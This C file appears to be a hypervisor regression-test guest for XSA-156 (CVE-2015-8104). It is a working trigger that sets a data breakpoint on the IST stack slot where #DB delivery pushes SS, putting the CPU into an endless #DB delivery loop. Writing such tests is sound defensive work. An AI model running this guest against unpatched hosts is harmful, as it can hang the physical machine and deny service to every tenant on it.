/* XSA-156 (CVE-2015-8104): a #DB whose own delivery hits a data
 * breakpoint. The #DB handler runs on an IST stack, and DR0 watches the
 * slot where delivery pushes SS, so every delivery raises the next #DB
 * before the handler's first instruction. On hardware that loop never
 * leaves the CPU's microcode unless the hypervisor intercepts #DB; with
 * the intercept each #DB is an exit, and the child is preempted and can
 * be stopped like any other spinning guest. */
#include "guests/lib/test.h"

const char test_title[] = "#DB delivery loop";

#define IST_STACK_SIZE 4096
#define DR7_L0 BIT(0)
#define DR7_RW0_WRITE (1ULL << 16)
#define DR7_LEN0_8 (2ULL << 18)
#define TSS_SELECTOR 0x20

struct tss64 {
	u32 reserved0;
	u64 rsp[3];
	u64 reserved1;
	u64 ist[7];
	u64 reserved2;
	u16 reserved3, iomap_base;
} __packed;

struct desc_ptr {
	u16 limit;
	u64 base;
} __packed;

static struct tss64 tss;
static u64 gdt[6] __attribute__((aligned(16)));
static u8 ist_stack[IST_STACK_SIZE] __attribute__((aligned(16)));

/* The loader's first four GDT entries, then a 64-bit TSS descriptor. */
static void load_tss(void)
{
	struct desc_ptr cur, next = { sizeof(gdt) - 1, (u64)gdt };
	u64 base = (u64)&tss, limit = sizeof(tss) - 1;

	asm volatile("sgdt %0" : "=m"(cur));
	for (u32 i = 0; i < 4 && i * 8 < (u32)cur.limit + 1; i++)
		gdt[i] = ((const u64 *)cur.base)[i];
	gdt[4] = (limit & 0xffff) | ((base & 0xffffff) << 16) | (0x89ULL << 40) |
		 (((base >> 24) & 0xff) << 56);
	gdt[5] = base >> 32;
	tss.ist[0] = (u64)ist_stack + IST_STACK_SIZE;
	tss.iomap_base = sizeof(tss);
	asm volatile("lgdt %0" : : "m"(next));
	asm volatile("ltr %w0" : : "r"(TSS_SELECTOR));
}

/* #DB gets IST 1 (the gate's IST field is byte 4 of the 16-byte gate). */
static void db_on_ist(void)
{
	struct desc_ptr idtr;

	asm volatile("sidt %0" : "=m"(idtr));
	((u8 *)idtr.base)[16 * 1 + 4] = 1;
}

void test_main(void)
{
	u64 *ss_slot = (u64 *)(ist_stack + IST_STACK_SIZE - 8);
	u64 dr7 = 0x400 | DR7_L0 | DR7_RW0_WRITE | DR7_LEN0_8;

	load_tss();
	db_on_ist();
	asm volatile("mov %0, %%dr0" : : "r"((u64)ss_slot));
	asm volatile("mov %0, %%dr7" : : "r"(dr7));
	gprintf("#DB delivery now hits its own breakpoint, forever\n");
	*(volatile u64 *)ss_slot = 0; /* the first #DB */
	test_fail("the #DB loop ended");
}
